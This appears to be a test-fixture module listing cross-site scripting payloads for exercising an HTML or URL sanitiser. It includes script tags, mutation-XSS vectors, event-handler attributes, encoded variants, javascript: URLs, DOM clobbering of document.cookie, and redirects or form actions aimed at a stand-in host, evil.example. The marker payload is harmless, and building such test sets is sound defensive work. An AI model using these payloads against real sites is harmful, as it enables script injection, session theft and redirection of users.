/* Texts that run a script where a page takes them for markup, for an address or for code. */

/** What a text does where it runs. */
const RUN = 'window.ran=1'
const CALL = 'window.ran&#61;1'

const elements = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
  `<script\n>${RUN}</script\n>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style><img src="</style><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}>`,
  `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:text/javascript,${RUN} />`,
  `<svg><animate attributeName=href values=javascript:${RUN} /><a><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></foreignObject></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<table><td><img src=x onerror=${RUN}></table>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=data:text/css,*{display:none}>`,
  `<link rel=modulepreload href=data:text/javascript,${RUN}>`,
  `<form action="https://evil.example/"><button autofocus>Continue</button></form>`,
  `<input name=attributes><input name=body><img name=getElementById>`,
  `<form id=document><input name=cookie></form>`,
]

const handlers = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror=${CALL}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x\`"onerror=${RUN}>`,
  `<img src=x:x onerror\n=\n${RUN}>`,
  `<img src=x onerror\u0000=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<a autofocus tabindex=1 onfocusin=${RUN}>x</a>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<video poster=x onloadstart=${RUN} src=x></video>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p style="animation:spin 1ms" onanimationstart=${RUN}>x</p>`,
  `<p onpointerover=${RUN} style="position:fixed;inset:0">x</p>`,
  `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `" autofocus onfocus="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `x" onerror="${RUN}" src="x`,
]

const code = [
  `';${RUN};'`,
  `";${RUN};"`,
  `\`;${RUN};\``,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u2028${RUN}\u2029`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
]

/** Where an address is expected. */
export const hostileAddresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  '//evil.example/',
  '\\\\evil.example\\',
  'https://localhost@evil.example/',
]

/** Where a text is expected. */
export const hostileTexts = [...elements, ...handlers, ...code]
